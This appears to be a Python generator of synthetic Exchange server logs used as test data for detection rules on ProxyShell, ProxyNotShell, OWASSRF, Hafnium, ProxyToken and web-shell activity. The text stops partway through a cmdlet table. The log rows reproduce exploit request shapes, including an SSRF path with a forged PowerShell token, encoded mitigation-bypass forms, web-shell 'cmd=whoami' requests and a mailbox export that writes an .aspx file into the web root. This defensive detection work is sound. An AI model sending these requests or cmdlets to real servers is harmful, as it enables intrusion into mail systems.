#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the samples of the rules for the waves after ProxyLogon.

For each rule of rules/exchange/ named below, this writes
tests/data/rules/<rule>/positive*/ and negative*/ evidence trees: IIS W3C
logs (inetpub/logs/LogFiles/W3SVC1/u_exYYMMDD.log), HttpProxy logs, ECP
Server logs and remote-PowerShell cmdlet logs
(Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_*.LOG). Every row is
made up here; the header lines copy the shapes of the real samples in
../shared/data/exchange-logs (see README.md). Output is deterministic.

usage: make_wave_samples.py          (rewrites the folders beside it)
"""
import datetime as dt
import os
import random
import shutil
import sys
import uuid

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, '..', '..'))
import make_examples as mx  # noqa: E402  (HttpProxy and ECP row builders)

RNG = random.Random(20210812)

# IIS ------------------------------------------------------------------------
IIS_FIELDS = ('date time s-ip cs-method cs-uri-stem cs-uri-query s-port '
              'cs-username c-ip cs(User-Agent) cs(Referer) sc-status '
              'sc-substatus sc-win32-status time-taken')
S_IP = '10.10.1.20'
# Paths the HttpProxy module proxies to the back end: Exchange appends its
# correlation parameters to cs-uri-query of those.
PROXIED = ('/ecp/', '/owa/', '/autodiscover/', '/ews/', '/mapi/',
           '/powershell', '/rpc/', '/oab/')
LOCAL = ('/owa/auth/', '/ecp/auth/')


def iis_header(first):
    return ['#Software: Microsoft Internet Information Services 10.0',
            '#Version: 1.0',
            '#Date: ' + first.strftime('%Y-%m-%d %H:%M:%S'),
            '#Fields: ' + IIS_FIELDS]


def iis_row(t, method, stem, query='-', status=200, ip='203.0.113.50',
            ua='python-requests/2.26.0', user='-', port=443, sub=0,
            win32=0):
    low = stem.lower()
    if low.startswith(PROXIED) and not low.startswith(LOCAL):
        extra = '&CorrelationID=<empty>;&cafeReqId=%s;' % uuid.UUID(
            int=RNG.getrandbits(128), version=4)
        query = extra if query == '-' else query + extra
    return ' '.join(str(x) for x in (
        t.strftime('%Y-%m-%d'), t.strftime('%H:%M:%S'), S_IP, method, stem,
        query, port, user, ip, ua.replace(' ', '+'), '-', status, sub, win32,
        RNG.randint(5, 400)))


# Remote PowerShell cmdlet log -----------------------------------------------
RPS_FIELDS = (
    'DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,'
    'BuildVersion,RevisionVersion,ServerHostName,ProcessId,ProcessName,'
    'ThreadId,CultureInfo,Organization,AuthenticatedUser,ExecutingUserSid,'
    'EffectiveOrganization,UserServicePlan,IsAdmin,ClientApplication,Cmdlet,'
    'Parameters,CmdletUniqueId,UserBudgetOnStart,ContributeToFailFast,'
    'RunspaceSettingsCreationHint,ADViewEntireForest,ADRecipientViewRoot,'
    'ADConfigurationDomainControllers,ADPreferredGlobalCatalogs,'
    'ADPreferredDomainControllers,ADUserConfigurationDomainController,'
    'ADUserPreferredGlobalCatalog,ADuserPreferredDomainControllers,'
    'ThrottlingInfo,DelayInfo,ThrottlingDelay,IsOutputObjectRedacted,'
    'CmdletProxyStage,CmdletProxyRemoteServer,CmdletProxyRemoteServerVersion,'
    'CmdletProxyMethod,ProxiedObjectCount,CmdletProxyLatency,'
    'OutputObjectCount,ParameterBinding,BeginProcessing,ProcessRecord,'
    'EndProcessing,StopProcessing,BizLogic,PowerShellLatency,'
    'UserInteractionLatency,ProvisioningLayerLatency,ActivityContextLifeTime,'
    'TotalTime,ErrorType,ExecutionResult,CacheHitCount,CacheMissCount,'
    'GenericLatency,GenericInfo,GenericErrors,ObjectGuid,'
    'ExternalDirectoryOrganizationId,ExternalDirectoryObjectId,'
    'NonPiiParameters').split(',')


def rps_header(first):
    return ['#Software: Microsoft Exchange Server',
            '#Version: %02d.%02d.%04d.%03d' % mx.BUILD,
            '#Log-type: Rps Cmdlet Logs',
            '#Date: ' + mx.iso(first),
            '#Fields: ' + ','.join(RPS_FIELDS)]


def rps_row(t, cmdlet, params, user='CONTOSO\\administrator', rid=500,
            result='Success', app='EMC'):
    f = dict.fromkeys(RPS_FIELDS, '')
    f.update({
        'DateTime': mx.iso(t),
        'StartTime': mx.iso(t - dt.timedelta(milliseconds=16)),
        'RequestId': str(uuid.UUID(int=RNG.getrandbits(128), version=4)),
        'MajorVersion': mx.BUILD[0], 'MinorVersion': mx.BUILD[1],
        'BuildVersion': mx.BUILD[2], 'RevisionVersion': mx.BUILD[3],
        'ServerHostName': mx.HOST, 'ProcessId': 15756,
        'ProcessName': 'w3wp#MSExchangePowerShellAppPool',
        'ThreadId': RNG.randint(20, 120), 'AuthenticatedUser': user,
        'ExecutingUserSid': '%s-%d' % (mx.DOMAIN_SID, rid),
        'IsAdmin': 'True', 'ClientApplication': app, 'Cmdlet': cmdlet,
        'Parameters': params,
        'CmdletUniqueId': str(uuid.UUID(int=RNG.getrandbits(128), version=4)),
        'RunspaceSettingsCreationHint': 'GCRandomly',
        'ADViewEntireForest': 'False', 'ADRecipientViewRoot': 'contoso.local',
        'ADConfigurationDomainControllers': 'DC01.contoso.local',
        'ADPreferredGlobalCatalogs': 'DC01.contoso.local',
        'ADPreferredDomainControllers': 'DC01.contoso.local',
        'OutputObjectCount': 1, 'ParameterBinding': 0, 'BeginProcessing': 6,
        'ProcessRecord': RNG.randint(5, 90), 'EndProcessing': 0,
        'BizLogic': 9, 'ActivityContextLifeTime': 22681600,
        'TotalTime': RNG.randint(10, 200), 'ExecutionResult': result,
        'GenericInfo': 'PSSenderInfo=%s;' % user.lower(),
        'NonPiiParameters': params,
    })
    return ','.join(mx.csv_field(f[k]) for k in RPS_FIELDS)


# Writing --------------------------------------------------------------------

def write(path, lines, crlf=False):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    nl = '\r\n' if crlf else '\n'
    with open(full, 'w', newline='') as out:
        out.write(nl.join(lines) + nl)


def iis(rule, entry, day, rows, crlf=False):
    """rows: (time, line) pairs; written sorted under W3SVC1."""
    rows = sorted(rows)
    write('%s/%s/inetpub/logs/LogFiles/W3SVC1/u_ex%s.log'
          % (rule, entry, day.strftime('%y%m%d')),
          iis_header(rows[0][0]) + [r[1] for r in rows], crlf)


def httpproxy(rule, entry, protocol, rows):
    rows = sorted(rows)
    write('%s/%s/Logging/HttpProxy/%s/HttpProxy_%s-1.LOG'
          % (rule, entry, protocol, rows[0][0].strftime('%Y%m%d%H')),
          mx.httpproxy_header(rows[0][0]) + [r[1] for r in rows])


def ecp(rule, entry, rows):
    rows = sorted(rows)
    write('%s/%s/Logging/ECP/Server/ECPServer%s-1.LOG'
          % (rule, entry, rows[0][0].strftime('%Y%m%d')),
          mx.ecp_header(rows[0][0]) + [r[1] for r in rows])


def rps(rule, entry, rows):
    rows = sorted(rows)
    write('%s/%s/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/'
          'Rps_Cmdlet_%s-1.LOG'
          % (rule, entry, rows[0][0].strftime('%Y%m%d%H')),
          rps_header(rows[0][0]) + [r[1] for r in rows])


def clock(day, hh, mm=0):
    """Successive times from day hh:mm, 7.3 s apart."""
    t = mx.at(day, hh, mm)
    while True:
        yield t
        t += dt.timedelta(seconds=7, milliseconds=300)


# Shared request shapes ------------------------------------------------------
BROWSER = mx.BROWSER
OUTLOOK = mx.OUTLOOK
WINRM = 'Microsoft WinRM Client'
CAT = ('VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBlhZG1pbmlzdHJhdG9yQGNvbnRvc28uY29t'
       'VStTLTEtNS0yMS0zNjIzODExMDE1LTMzNjEwNDQzNDgtMzAzMDA4MjAtNTAwRwEAAAAH'
       'AAAADFMtMS01LTMyLTU0NEUAAAAA')
PS_EMAIL = '&Email=autodiscover/autodiscover.json%3F@evil.example'


def ps_query(backend, mailbox='@evil.example', email=PS_EMAIL):
    return mailbox + backend + email


def benign_web(c, n=4):
    """Ordinary front-end traffic of an Exchange server."""
    rows = []
    for _ in range(n):
        ip = '10.10.%d.%d' % (RNG.randint(1, 4), RNG.randint(10, 250))
        rows += [
            row(c, 'POST', '/owa/service.svc',
                'action=GetConversationItems&app=Mail&n=%d'
                % RNG.randint(10, 99), 200, ip, BROWSER, 'CONTOSO\\jdoe'),
            row(c, 'POST', '/mapi/emsmdb/',
                'MailboxId=%s@contoso.com'
                % uuid.UUID(int=RNG.getrandbits(128), version=4),
                200, ip, OUTLOOK, 'jdoe@contoso.com'),
        ]
    return rows


def row(c, *a, **kw):
    t = next(c)
    return (t, iis_row(t, *a, **kw))


# The rules ------------------------------------------------------------------

def proxyshell():
    day = dt.date(2021, 8, 12)
    att, scan = '203.0.113.50', '198.51.100.61'
    # The chain as published (ZDI, peterjson): LegacyDN from autodiscover,
    # SID from mapi/emsmdb, then /powershell with a forged X-Rps-CAT.
    def chain(c, status_nspi, status_ps):
        return [
            row(c, 'POST', '/autodiscover/autodiscover.json',
                ps_query('/autodiscover/autodiscover.xml?'), 200, att),
            row(c, 'POST', '/autodiscover/autodiscover.json',
                ps_query('/mapi/nspi/?'), status_nspi, att),
            row(c, 'POST', '/autodiscover/autodiscover.json',
                ps_query('/mapi/emsmdb/?'), 200, att),
            row(c, 'POST', '/autodiscover/autodiscover.json',
                ps_query('/powershell/?X-Rps-CAT=' + CAT), status_ps, att),
            row(c, 'POST', '/autodiscover/autodiscover.json',
                ps_query('/EWS/exchange.asmx/?'), status_nspi, att),
        ]

    def legit(c, status):
        return [
            row(c, 'GET', '/autodiscover/autodiscover.json',
                'Email=jdoe%40contoso.com&Protocol=Ews&RedirectCount=1',
                status, '10.10.2.33', 'Outlook-iOS/2.0', '-'),
            row(c, 'GET', '/autodiscover/autodiscover.json',
                'Email=asmith%40contoso.com&Protocol=ActiveSync'
                '&RedirectCount=1', status, '10.10.2.34',
                'Outlook-Android/2.0'),
            row(c, 'POST', '/powershell',
                'serializationLevel=Full;ExchClientVer=15.1.2176.2;'
                'clientApplication=ManagementShell;TargetServer=;'
                'PSVersion=5.1.17763.1490', status, '10.10.1.5', WINRM,
                'CONTOSO\\administrator', 80),
            row(c, 'POST', '/EWS/Exchange.asmx', '-', status, '10.10.1.8',
                'ExchangeServicesClient/15.01.2176.002', 'jdoe@contoso.com'),
        ]

    c = clock(day, 3, 14)
    iis('proxyshell_exploitation', 'positive', day,
        benign_web(c, 2) + chain(c, 200, 200))
    # HttpProxy: the Autodiscover protocol log keeps the '?' of the query.
    t = mx.at(day, 3, 20)
    httpproxy('proxyshell_exploitation', 'positive-httpproxy',
              'Autodiscover', [
        (t, mx.httpproxy_row(
            RNG, t, 'Autodiscover', UrlStem='/autodiscover/autodiscover.json',
            AuthenticationType='', IsAuthenticated='false',
            AnchorMailbox='Smtp~administrator@contoso.com',
            UserAgent='python-requests/2.26.0', ClientIpAddress=att,
            RoutingHint='Url', UrlQuery='?' + ps_query(
                '/powershell/?X-Rps-CAT=' + CAT))),
        (t + dt.timedelta(seconds=3), mx.benign_row(
            RNG, t + dt.timedelta(seconds=3), 'Autodiscover')),
    ])
    c = clock(day, 9, 2)
    iis('proxyshell_exploitation', 'negative', day,
        benign_web(c, 2) + legit(c, 200) +
        [row(c, 'POST', '/autodiscover/autodiscover.json',
             ps_query('/powershell/?X-Rps-CAT=' + CAT), 401, scan),
         row(c, 'POST', '/autodiscover/autodiscover.json',
             ps_query('/mapi/nspi/?'), 404, scan),
         # Other back ends than the three (the LegacyDN step) succeed.
         row(c, 'POST', '/autodiscover/autodiscover.json',
             ps_query('/autodiscover/autodiscover.xml?'), 200, scan)])
    c = clock(day, 11, 40)
    iis('proxyshell_attempt', 'positive', day,
        benign_web(c, 1) +
        [row(c, 'GET', '/autodiscover/autodiscover.json',
             '@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json'
             '%3f@foo.com', 401, scan, 'Mozilla/5.0 zgrab/0.x'),
         row(c, 'POST', '/autodiscover/autodiscover.json',
             ps_query('/powershell/?X-Rps-CAT=' + CAT), 403, scan),
         row(c, 'POST', '/autodiscover/autodiscover.json',
             ps_query('/EWS/exchange.asmx/?'), 500, scan)])
    c = clock(day, 12, 10)
    iis('proxyshell_attempt', 'negative', day,
        benign_web(c, 1) + legit(c, 401) + chain(c, 200, 200))


def proxynotshell():
    day = dt.date(2022, 9, 29)
    att, scan = '198.51.100.23', '192.0.2.44'
    ua = 'python-requests/2.28.1'
    ps = ('/powershell/?serializationLevel=Full;ExchClientVer=15.2.922.7;'
          'clientApplication=ManagementShell;TargetServer=;'
          'PSVersion=5.1.17763.592')
    # GTSC's request shape and the encoded forms that passed the first
    # URL Rewrite mitigation (%40 for '@', %50owershell, double encoding).
    shapes = [
        ps_query(ps),
        '@evil.example/owa/&Email=autodiscover/autodiscover.json%3f'
        '@evil.example&Protocol=XYZ&FooProtocol=Powershell',
        '%40evil.example/%50owershell/?X=1&Email=autodiscover/'
        'autodiscover.json%3f%40evil.example',
        '%2540evil.example/P%256fwer%2573hell&Email=autodiscover/'
        'autodiscover.json%253f%2540evil.example',
    ]
    nessus = ('@test.com/owa/?&Email=autodiscover/autodiscover.json%3F'
              '@test.com&Protocol=XYZ&FooProtocol=Powershell')

    c = clock(day, 4, 10)
    iis('proxynotshell_exploitation', 'positive', day, benign_web(c, 2) + [
        row(c, 'POST', '/autodiscover/autodiscover.json', q, 200, att, ua,
            'CONTOSO\\jdoe') for q in shapes])
    t = mx.at(day, 4, 30)
    httpproxy('proxynotshell_exploitation', 'positive-httpproxy',
              'Autodiscover', [
                  (t, mx.httpproxy_row(
                      RNG, t, 'Autodiscover',
                      UrlStem='/autodiscover/autodiscover.json',
                      AuthenticationType='Basic',
                      AuthenticatedUser='CONTOSO\\jdoe',
                      AnchorMailbox='Smtp~jdoe@contoso.com', UserAgent=ua,
                      ClientIpAddress=att, Method='GET', RoutingHint='Url',
                      UrlQuery='?' + shapes[2]))])
    c = clock(day, 6, 0)
    iis('proxynotshell_exploitation', 'negative', day, benign_web(c, 2) + [
        # Refused (attempts), a scanner probe, ProxyShell's token, and
        # autodiscover.json traffic without PowerShell.
        row(c, 'POST', '/autodiscover/autodiscover.json', shapes[0], 401,
            scan, ua),
        row(c, 'GET', '/autodiscover/autodiscover.json', shapes[2], 403,
            scan, ua),
        row(c, 'GET', '/autodiscover/autodiscover.json', nessus, 200, scan,
            'Nessus'),
        row(c, 'POST', '/autodiscover/autodiscover.json',
            ps_query('/powershell/?X-Rps-CAT=' + CAT), 200, att),
        row(c, 'GET', '/autodiscover/autodiscover.json',
            'Email=jdoe%40contoso.com&Protocol=ActiveSync&RedirectCount=1',
            200, '10.10.2.33', 'Outlook-iOS/2.0'),
        row(c, 'POST', '/powershell',
            'serializationLevel=Full;clientApplication=ManagementShell',
            200, '10.10.1.5', WINRM, 'CONTOSO\\administrator', 80)])
    c = clock(day, 7, 0)
    iis('proxynotshell_attempt', 'positive', day, benign_web(c, 1) + [
        row(c, 'POST', '/autodiscover/autodiscover.json', shapes[0], 401,
            scan, ua),
        row(c, 'GET', '/autodiscover/autodiscover.json', shapes[3], 403,
            scan, ua),
        row(c, 'GET', '/autodiscover/autodiscover.json', nessus, 200, scan,
            'Nessus')])
    c = clock(day, 8, 0)
    iis('proxynotshell_attempt', 'negative', day, benign_web(c, 1) + [
        row(c, 'POST', '/autodiscover/autodiscover.json', q, 200, att, ua,
            'CONTOSO\\jdoe') for q in shapes] + [
        row(c, 'POST', '/autodiscover/autodiscover.json',
            ps_query('/powershell/?X-Rps-CAT=' + CAT), 401, scan),
        row(c, 'GET', '/autodiscover/autodiscover.json',
            'Email=jdoe%40contoso.com&Protocol=Ews&RedirectCount=1', 401,
            '10.10.2.33', 'Outlook-iOS/2.0'),
        row(c, 'POST', '/powershell', 'clientApplication=ManagementShell',
            401, '10.10.1.5', WINRM, '-', 80)])


def owassrf():
    day = dt.date(2022, 12, 14)
    att, scan = '203.0.113.99', '192.0.2.71'
    ua = 'python-requests/2.28.1'
    shapes = ['/owa/mastermailbox%40outlook.com/powershell',
              '/owa/jdoe@contoso.com/PowerShell',
              '/owa/x%2540y.example/powershell']

    def legit(c):
        return [
            row(c, 'POST', '/powershell',
                'clientApplication=ManagementShell', 200, '10.10.1.5',
                WINRM, 'CONTOSO\\administrator', 80),
            row(c, 'GET', '/owa/sharedbox@contoso.com/', '-', 200,
                '10.10.2.40', BROWSER, 'CONTOSO\\jdoe'),
            row(c, 'POST', '/owa/sharedbox@contoso.com/service.svc',
                'action=GetFolder&app=Mail', 200, '10.10.2.40', BROWSER,
                'CONTOSO\\jdoe'),
            # The same path by GET is neither rule's.
            row(c, 'GET', shapes[0], '-', 200, scan, ua)]

    c = clock(day, 2, 5)
    iis('owassrf_exploitation', 'positive', day, benign_web(c, 2) + [
        row(c, 'POST', s, '-', 200, att, ua, 'CONTOSO\\jdoe')
        for s in shapes])
    t = mx.at(day, 2, 20)
    httpproxy('owassrf_exploitation', 'positive-httpproxy', 'Owa', [
        (t, mx.httpproxy_row(
            RNG, t, 'Owa', UrlStem=shapes[0], AuthenticationType='Basic',
            AuthenticatedUser='CONTOSO\\jdoe',
            AnchorMailbox='Smtp~mastermailbox@outlook.com', UserAgent=ua,
            ClientIpAddress=att, RoutingHint='Url'))])
    c = clock(day, 3, 0)
    iis('owassrf_exploitation', 'negative', day, benign_web(c, 2) + legit(c) +
        [row(c, 'POST', shapes[0], '-', 401, scan, ua),
         row(c, 'POST', shapes[1], '-', 500, scan, ua)])
    c = clock(day, 4, 0)
    iis('owassrf_attempt', 'positive', day, benign_web(c, 1) + [
        row(c, 'POST', shapes[0], '-', 401, scan, ua),
        row(c, 'POST', shapes[2], '-', 500, scan, ua)])
    c = clock(day, 5, 0)
    iis('owassrf_attempt', 'negative', day, benign_web(c, 1) + legit(c) + [
        row(c, 'POST', s, '-', 200, att, ua, 'CONTOSO\\jdoe')
        for s in shapes] + [
        row(c, 'POST', '/powershell', 'clientApplication=ManagementShell',
            401, '10.10.1.5', WINRM, '-', 80)])


def hafnium():
    day = dt.date(2021, 3, 3)
    att, scan = '203.0.113.77', '192.0.2.10'
    c = clock(day, 2, 14)
    iis('hafnium_static_resource_post', 'positive', day, benign_web(c, 2) + [
        row(c, 'POST', '/ecp/y.js', '-', 200, att, 'python-requests/2.25.1'),
        row(c, 'POST', '/ecp/main.css', '-', 200, att,
            'ExchangeServicesClient/0.0.0.0'),
        row(c, 'POST', '/ecp/default.flt', '-', 241, att,
            'ExchangeServicesClient/0.0.0.0'),
        row(c, 'POST', '/owa/auth/w.js', '-', 200, att,
            'python-requests/2.19.1'),
        row(c, 'POST', '/ecp/Ab1.js', '-', 200, att, 'antSword/v2.1'),
        row(c, 'POST', '/owa/auth/Current/themes/resources/logon.css', '-',
            200, att, 'DuckDuckBot/1.0; (+http://duckduckgo.com/'
            'duckduckbot.html)')])
    # HttpProxy: a POST whose forged cookie did not route (no ServerInfo~
    # anchor, no back end: no proxylogon_* finding), and, in the negative,
    # one the proxylogon_* rules report already.
    t = mx.at(day, 2, 16)
    httpproxy('hafnium_static_resource_post', 'positive-httpproxy', 'Ecp', [
        (t, mx.httpproxy_row(
            RNG, t, 'Ecp', UrlStem='/ecp/x.js', AuthenticationType='',
            IsAuthenticated='false', UserAgent='python-requests/2.25.1',
            ClientIpAddress=att, HttpStatus=500, BackEndStatus='',
            ProxyAction='', TargetServer='', TargetServerVersion='',
            RoutingType='', RoutingHint='', DatabaseGuid=''))])
    httpproxy('hafnium_static_resource_post', 'negative-httpproxy', 'Ecp', [
        (t, mx.httpproxy_row(
            RNG, t, 'Ecp', UrlStem='/ecp/y.js', AuthenticationType='',
            IsAuthenticated='false',
            AnchorMailbox='ServerInfo~a]@exch01.contoso.local:444/'
            'autodiscover/autodiscover.xml?#',
            UserAgent='python-requests/2.25.1', ClientIpAddress=att,
            RoutingHint='BEResourceCookie', TargetServer='a]@'
            'exch01.contoso.local:444')),
        (t + dt.timedelta(seconds=5), mx.benign_row(
            RNG, t + dt.timedelta(seconds=5), 'Ecp'))])
    c = clock(day, 9, 0)
    iis('hafnium_static_resource_post', 'negative', day, benign_web(c, 2) + [
        # Browsers GET static files; Microsoft's nmap script GETs x.js.
        row(c, 'GET', '/ecp/y.js', '-', 200, '10.10.3.9', BROWSER),
        row(c, 'GET', '/owa/auth/x.js', '-', 200, scan,
            'Mozilla/5.0 (compatible; Nmap Scripting Engine; '
            'https://nmap.org/book/nse.html)'),
        row(c, 'GET', '/owa/auth/Current/themes/resources/logon.css', '-',
            200, '10.10.3.9', BROWSER),
        row(c, 'GET', '/ecp/Current/exporttool/'
            'microsoft.exchange.ediscovery.exporttool.application', '-', 200,
            scan, 'Mozilla/5.0 zgrab/0.x'),
        # Real POST endpoints; a script name of four characters.
        row(c, 'POST', '/ecp/DDI/DDIService.svc/GetList',
            'schema=Mailboxes&msExchEcpCanary=%032x' % RNG.getrandbits(128),
            200, '10.10.1.5', BROWSER, 'CONTOSO\\administrator'),
        row(c, 'POST', '/owa/auth.owa', '-', 302, '10.10.3.9', BROWSER),
        row(c, 'POST', '/ecp/abcd.js', '-', 404, scan, BROWSER),
        row(c, 'POST', '/ecp/scripts/y.js', '-', 404, scan, BROWSER)])


def webshell():
    day = dt.date(2021, 3, 4)
    att, scan = '203.0.113.77', '192.0.2.10'
    c = clock(day, 11, 54)
    # The first row is the GET of the public IIS web-shell example
    # (qazeer_iis_webshell_request_example.log), with our addresses.
    iis('exchange_webshell_access', 'positive', day, benign_web(c, 2) + [
        row(c, 'GET', '/owa/auth/aKdMadOeT.aspx', 'cmd=whoami', 200, att,
            'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36'),
        row(c, 'POST', '/aspnet_client/system_web/discover.aspx', '-', 200,
            att, 'antSword/v2.1'),
        row(c, 'POST', '/owa/auth/errorEE.aspx', '-', 200, att,
            'python-requests/2.25.1'),
        row(c, 'GET', '/owa/auth/pxh4HG1v.ashx', 'c=ipconfig', 200, att,
            'python-requests/2.25.1'),
        row(c, 'POST', '/ecp/auth/TimeoutLogout2.aspx', '-', 200, att,
            'python-requests/2.25.1'),
        row(c, 'POST', '/owa/auth/15.1.2176/scripts/one.aspx', '-', 500,
            att, 'python-requests/2.25.1'),
        row(c, 'POST', '/OAB/log.aspx', '-', 200, att,
            'python-requests/2.25.1')], crlf=True)
    t = mx.at(day, 12, 0)
    httpproxy('exchange_webshell_access', 'positive-httpproxy', 'Owa', [
        (t, mx.httpproxy_row(
            RNG, t, 'Owa', UrlStem='/owa/auth/shel90.aspx',
            AuthenticationType='', IsAuthenticated='false',
            UserAgent='python-requests/2.25.1', ClientIpAddress=att,
            Method='GET', UrlQuery='?ex=whoami'))])
    c = clock(day, 13, 0)
    iis('exchange_webshell_access', 'negative', day, benign_web(c, 2) + [
        # Stock pages with their usual parameters, in any case.
        row(c, 'GET', '/owa/auth/logon.aspx',
            'url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0', 200,
            '10.10.3.9', BROWSER),
        row(c, 'POST', '/OWA/auth/Logon.aspx', 'replaceCurrent=1', 200,
            '10.10.3.9', BROWSER),
        row(c, 'GET', '/owa/auth/errorFE.aspx', 'httpCode=500', 200,
            '10.10.3.9', BROWSER),
        row(c, 'POST', '/owa/auth/expiredpassword.aspx',
            'url=/owa/auth.owa', 200, '10.10.3.9', BROWSER),
        row(c, 'GET', '/owa/auth/RedirSuiteServiceProxy.aspx', 'x=1', 200,
            '10.10.3.9', BROWSER),
        row(c, 'GET', '/ecp/auth/TimeoutLogout.aspx', 'ShowDialog=true',
            200, '10.10.3.9', BROWSER),
        # Probes of known shell names that are not there, a GET without
        # parameters, static files, the logon POST.
        row(c, 'POST', '/aspnet_client/discover.aspx', '-', 404, scan,
            'python-requests/2.25.1'),
        row(c, 'GET', '/owa/auth/shell.aspx', 'cmd=whoami', 404, scan,
            'python-requests/2.25.1'),
        row(c, 'GET', '/aspnet_client/system_web/help.aspx', '-', 200, scan,
            BROWSER),
        row(c, 'GET', '/aspnet_client/system_web/4_0_30319/'
            'WebUIValidation.js', 'v=1', 200, '10.10.3.9', BROWSER),
        row(c, 'POST', '/owa/auth.owa', '-', 302, '10.10.3.9', BROWSER),
        row(c, 'GET', '/ecp/Current/exporttool/'
            'microsoft.exchange.ediscovery.exporttool.application', '-', 200,
            scan, 'Mozilla/5.0 zgrab/0.x'),
        row(c, 'POST', '/ecp/DDI/DDIService.svc/GetList',
            'schema=Mailboxes', 200, '10.10.1.5', BROWSER,
            'CONTOSO\\administrator')])


def proxytoken():
    day = dt.date(2021, 8, 30)
    att = '203.0.113.60'
    ua = 'python-requests/2.26.0'
    canary = 'msExchEcpCanary=%032x' % RNG.getrandbits(128)
    victim = '/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject'
    c = clock(day, 5, 0)
    iis('proxytoken_inbox_rule', 'positive', day, benign_web(c, 2) + [
        row(c, 'POST', victim, '-', 500, att, ua),
        row(c, 'POST', victim, canary, 500, att, ua),
        row(c, 'GET', '/ecp/victim@contoso.com/default.aspx',
            'SecurityToken=x', 500, att, ua)])
    t = mx.at(day, 5, 10)
    httpproxy('proxytoken_inbox_rule', 'positive-httpproxy', 'Ecp', [
        (t, mx.httpproxy_row(
            RNG, t, 'Ecp', UrlStem=victim, AuthenticationType='',
            IsAuthenticated='false', AnchorMailbox='Smtp~victim@contoso.com',
            UserAgent=ua, ClientIpAddress=att, HttpStatus=500,
            BackEndStatus=500, RoutingHint='Url', UrlQuery='?' + canary))])
    c = clock(day, 9, 0)
    iis('proxytoken_inbox_rule', 'negative', day, benign_web(c, 2) + [
        # Rules made through ECP by their owner or an administrator.
        row(c, 'POST', '/ecp/RulesEditor/InboxRules.svc/NewObject', canary,
            200, '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
        row(c, 'POST', victim, canary, 200, '10.10.1.5', BROWSER,
            'CONTOSO\\administrator'),
        row(c, 'POST', '/ecp/RulesEditor/InboxRules.svc/GetList', canary,
            500, '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
        row(c, 'GET', '/ecp/victim@contoso.com/RulesEditor/'
            'InboxRules.svc/NewObject', '-', 500, att, ua),
        row(c, 'GET', '/owa/', 'SecurityToken=x', 500, att, ua)])


# Cmdlets: (rule stem, positives [(cmdlet, rps params, ecp cmd)],
#           negatives [...]).
EXPORT_ASPX = r'\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\shell.aspx'
EXPORT_OWA = (r'\\localhost\c$\Program Files\Microsoft\Exchange Server\V15'
              r'\FrontEnd\HttpProxy\owa\auth\a1b2c.aspx')
CMDLETS = [
    ('mailbox_export_webshell', [
        ('New-MailboxExportRequest',
         '-Mailbox "administrator@contoso.com" -IncludeFolders "#Drafts#" '
         '-ContentFilter "Subject -eq \'a1b2c3\'" -ExchangeLocator "" '
         '-FilePath "%s"' % EXPORT_ASPX,
         "New-MailboxExportRequest.Mailbox='administrator@contoso.com'."
         "FilePath='%s'.IncludeFolders='#Drafts#'" % EXPORT_ASPX),
        ('New-MailboxExportRequest',
         '-Mailbox "jdoe" -FilePath "%s"' % EXPORT_OWA,
         "New-MailboxExportRequest.FilePath='%s'.Mailbox='jdoe'"
         % EXPORT_OWA)],
     [('New-MailboxExportRequest',
       r'-Mailbox "jdoe" -FilePath "\\fileserver01\pst$\jdoe.pst"',
       r"New-MailboxExportRequest.Mailbox='jdoe'.FilePath="
       r"'\\fileserver01\pst$\jdoe.pst'"),
      ('New-MailboxExportRequest',
       r'-Mailbox "jdoe" -FilePath "\\fileserver01\pst$\aspx-notes.pst"',
       r"New-MailboxExportRequest.Mailbox='jdoe'.FilePath="
       r"'\\fileserver01\pst$\aspx-notes.pst'"),
      ('New-MailboxImportRequest',
       '-Mailbox "jdoe" -FilePath "%s"' % EXPORT_ASPX,
       "New-MailboxImportRequest.Mailbox='jdoe'.FilePath='%s'"
       % EXPORT_ASPX),
      ('Get-MailboxExportRequest', '-Status "Completed"',
       "Get-MailboxExportRequest.Status='Completed'")]),
    ('mailbox_export_suspicious_path', [
        ('New-MailboxExportRequest',
         r'-Mailbox "ceo@contoso.com" -FilePath "\\127.0.0.1\c$\inetpub'
         r'\wwwroot\aspnet_client\ceo.pst"',
         r"New-MailboxExportRequest.Mailbox='ceo@contoso.com'.FilePath="
         r"'\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\ceo.pst'"),
        ('New-MailboxExportRequest',
         r'-Mailbox "cfo" -FilePath "\\localhost\C$\Users\Public\x.pst"',
         r"New-MailboxExportRequest.Mailbox='cfo'.FilePath="
         r"'\\localhost\C$\Users\Public\x.pst'")],
     [('New-MailboxExportRequest',
       r'-Mailbox "jdoe" -FilePath "\\fileserver01\pst$\jdoe.pst"',
       r"New-MailboxExportRequest.Mailbox='jdoe'.FilePath="
       r"'\\fileserver01\pst$\jdoe.pst'"),
      ('New-MailboxExportRequest',
       r'-Mailbox "jdoe" -FilePath "\\exch01\PST$\jdoe.pst"',
       r"New-MailboxExportRequest.Mailbox='jdoe'.FilePath="
       r"'\\exch01\PST$\jdoe.pst'"),
      ('New-MailboxExportRequest',
       '-Mailbox "administrator" -FilePath "%s"' % EXPORT_ASPX,
       "New-MailboxExportRequest.Mailbox='administrator'.FilePath='%s'"
       % EXPORT_ASPX),
      ('New-MailboxImportRequest',
       r'-Mailbox "jdoe" -FilePath "\\127.0.0.1\c$\inetpub\x.pst"',
       r"New-MailboxImportRequest.Mailbox='jdoe'.FilePath="
       r"'\\127.0.0.1\c$\inetpub\x.pst'")]),
    ('mailbox_import_export_role', [
        ('New-ManagementRoleAssignment',
         '-Role "Mailbox Import Export" -User "administrator@contoso.com"',
         "New-ManagementRoleAssignment.Role='Mailbox Import Export'."
         "User='administrator@contoso.com'"),
        ('New-RoleGroup',
